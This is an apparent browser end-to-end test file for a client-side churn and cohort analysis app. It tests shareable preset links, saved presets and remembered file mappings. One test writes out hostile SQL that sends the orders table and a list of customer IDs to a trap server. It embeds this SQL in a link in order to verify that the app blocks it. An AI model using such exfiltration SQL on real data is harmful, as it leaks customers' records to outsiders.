// Preset links and files: a link made in one browser context reproduces the same table in a fresh one once
// the file is dropped; SQL from a link is shown, runs only when asked, and cannot reach a server; a
// damaged link says so and leaves the app usable; saved presets survive a reload.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import {
  dropFiles,
  engineReady,
  gridText,
  launchBrowser,
  openApp,
  screenshot,
  startServer,
  startTrapServer,
  mapSample,
} from './harness.mjs';

let server;
let browser;
const ordersCsv = await readFile(new URL('../../sample-data/orders.csv', import.meta.url));

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  server?.close();
});

async function settled(page, id) {
  const status = `[data-testid="analysis-${id}"] [data-testid="analysis-status"]`;
  await page.waitForSelector(status, { timeout: 30_000 });
  await page.waitForFunction((sel) => !document.querySelector(sel)?.hasAttribute('data-running'), status);
}

describe('preset links', () => {
  it('reproduce the same table in a fresh browser context after the file is dropped', async () => {
    const a = await openApp(browser, server);
    await engineReady(a.page);
    await dropFiles(a.page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await a.page.waitForSelector('[data-testid="table-panel"]');
    await a.page.click('[data-testid="tab-analyses"]');
    // refunds are ticked to be left out by default
    await a.page.waitForSelector('[data-testid="exclude-value"][data-value="refunded"]:checked');
    await a.page.click('[data-testid="apply-mapping"]');
    await settled(a.page, 'cohorts');
    await a.page.click('[data-testid="analysis-churn-tab"]');
    await settled(a.page, 'churn');
    await a.page.fill('[data-testid="param-window_days"]', '60');
    await a.page.press('[data-testid="param-window_days"]', 'Enter');
    await a.page.selectOption('[data-testid="param-segment"]', 'country');
    await a.page.waitForFunction(
      () => document.querySelectorAll('[data-testid="analysis-churn"] .body [role="row"]').length > 2,
    );
    await settled(a.page, 'churn');
    const expected = await gridText(a.page, '[data-testid="analysis-churn"] [data-testid="result-grid"]');
    await a.page.click('[data-testid="share"] summary');
    await a.page.fill('[data-testid="preset-title"]', 'Our 60-day churn');
    await a.page.click('[data-testid="copy-link"]');
    const link = await a.page.inputValue('[data-testid="preset-link"]');
    assert.match(link, /\/tenure\/#p=1\.[A-Za-z0-9_-]+$/);
    assert.ok(link.length < 2000, `${link.length} characters`);
    a.assertClean();
    await a.context.close();

    const b = await openApp(browser, server, { hash: new URL(link).hash.slice(1) });
    const { page } = b;
    await page.waitForSelector('[data-testid="preset-banner"]');
    assert.match(await page.locator('[data-testid="preset-banner"]').innerText(), /Our 60-day churn · Churn/);
    const expectedColumns = await page.locator('[data-testid="preset-columns"] code').allTextContents();
    assert.deepEqual(expectedColumns.slice(0, 2), ['customer_id', 'ordered_at']);
    assert.ok(expectedColumns.includes('status') && expectedColumns.includes('country'));
    // the definition shows at once, before any data
    const definition = await page.locator('[data-testid="preset-definition"]').innerText();
    assert.match(definition, /Inactivity window \(days\)\s*60/);
    assert.match(definition, /Break down by\s*country/);
    await screenshot(page, 'preset-waiting');
    await engineReady(page);
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await page.waitForSelector('[data-testid="preset-ready"]', { timeout: 30_000 });
    await page.click('[data-testid="tab-analyses"]');
    await settled(page, 'churn');
    await page.waitForFunction(
      () => document.querySelectorAll('[data-testid="analysis-churn"] .body [role="row"]').length > 2,
    );
    const got = await gridText(page, '[data-testid="analysis-churn"] [data-testid="result-grid"]');
    assert.deepEqual(got, expected);
    b.assertClean();
    await b.context.close();
  });

  it('show SQL from a link, run it only when asked, and send nothing to a server', async () => {
    const trap = await startTrapServer();
    const a = await openApp(browser, server);
    await engineReady(a.page);
    // make the hostile link with the app's own encoder, as anybody could
    const sql = `COPY (SELECT * FROM orders_raw) TO '${trap.url}steal.csv';\nSELECT * FROM read_csv('${trap.url}x.csv?' || (SELECT string_agg(customer_id, ',') FROM orders_raw));`;
    const hash = await a.page.evaluate(
      (text) => window.tenure.presetHash({ v: 1, analysis: 'sql', title: 'Handy query', sql: text }),
      sql,
    );
    await a.context.close();

    const b = await openApp(browser, server, { hash });
    const { page } = b;
    await engineReady(page);
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await page.waitForSelector('[data-testid="table-item"]');
    await page.waitForSelector('[data-testid="sql-from-link"]');
    assert.match(await page.locator('.cm-content').innerText(), /COPY \(SELECT \* FROM orders_raw\)/);
    // nothing has run
    await page.waitForTimeout(500);
    assert.equal(await page.locator('[data-testid="result-grid"]').count(), 0);
    assert.deepEqual(trap.requests, []);
    await page.click('[data-testid="run-sql"]');
    await page.waitForSelector('[data-testid="sql-error"]');
    assert.match(
      await page.locator('[data-testid="sql-error"]').innerText(),
      /disabled|Permission|not allowed/i,
    );
    await page.waitForTimeout(300);
    assert.deepEqual(trap.requests, []);
    b.assertClean();
    await b.context.close();
    trap.close();
  });

  it('explain a damaged link and keep the app usable', async () => {
    for (const hash of ['p=1.not-a-real-preset', 'p=9.abc', `p=1.${'A'.repeat(70_000)}`]) {
      const app = await openApp(browser, server, { hash });
      const { page } = app;
      await page.waitForSelector('[data-testid="preset-problem"]');
      assert.match(
        await page.locator('[data-testid="preset-problem"]').innerText(),
        /damaged|newer version|too large/,
      );
      await engineReady(page);
      await page.click('[data-testid="sample-orders"]');
      await page.waitForSelector('[data-testid="table-panel"]');
      app.assertClean();
      await app.context.close();
    }
  });
});

describe('saved presets', () => {
  it('are kept across a reload and open from the list', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await mapSample(page, 'orders');
    await page.selectOption('[data-testid="param-grain"]', 'quarter');
    await page.click('[data-testid="share"] summary');
    await page.fill('[data-testid="preset-title"]', 'Quarterly cohorts');
    await page.click('[data-testid="save-preset"]');
    await page.waitForSelector('[data-testid="saved-preset"]');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.click('[data-testid="download-preset"]'),
    ]);
    const json = JSON.parse(await readFile(await download.path(), 'utf8'));
    assert.equal(json.v, 1);
    assert.equal(json.params.grain, 'quarter');

    await page.reload();
    await page.waitForSelector('[data-testid="saved-preset"]');
    assert.equal(await page.locator('[data-testid="saved-preset"]').innerText(), 'Quarterly cohorts');
    await page.click('[data-testid="saved-preset"]');
    await page.waitForSelector('[data-testid="preset-banner"]');
    assert.match(await page.locator('[data-testid="preset-definition"]').innerText(), /Period\s*Quarter/);
    // the sample is loaded again: the preset maps it and the cohorts come by quarter
    await engineReady(page);
    await page.selectOption('[data-testid="sample-select"]', 'orders');
    await page.waitForSelector('[data-testid="preset-ready"]', { timeout: 30_000 });
    await page.click('[data-testid="tab-analyses"]');
    await settled(page, 'cohorts');
    assert.equal(await page.inputValue('[data-testid="param-grain"]'), 'quarter');
    app.assertClean();
    await app.context.close();
  });
});

describe('memory across reloads', () => {
  it('keeps recent files and the mapping of a file shape', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await page.waitForSelector('[data-testid="table-panel"]');
    await page.click('[data-testid="tab-analyses"]');
    // a fix the user makes is remembered for files of this shape: here, refunds kept after all
    await page.uncheck('[data-testid="exclude-value"][data-value="refunded"]');
    await page.click('[data-testid="apply-mapping"]');
    await settled(page, 'cohorts');
    await page.waitForSelector('[data-testid="recent-file"]');

    await page.reload();
    await page.waitForSelector('[data-testid="recent-file"]');
    // a dropped file (no handle kept by this browser for synthetic drops) asks to be dropped again
    assert.match(
      await page.locator('[data-testid="recent-file"]').innerText(),
      /orders\.csv[\s\S]*drop it again/,
    );
    await engineReady(page);
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: ordersCsv }]);
    await page.waitForSelector('[data-testid="table-panel"]');
    await page.click('[data-testid="tab-analyses"]');
    await page.waitForSelector('[data-testid="exclude-value"][data-value="refunded"]');
    assert.equal(await page.isChecked('[data-testid="exclude-value"][data-value="refunded"]'), false);
    assert.equal(await page.locator('[data-testid="recent-file"]').count(), 1);
    app.assertClean();
    await app.context.close();
  });
});
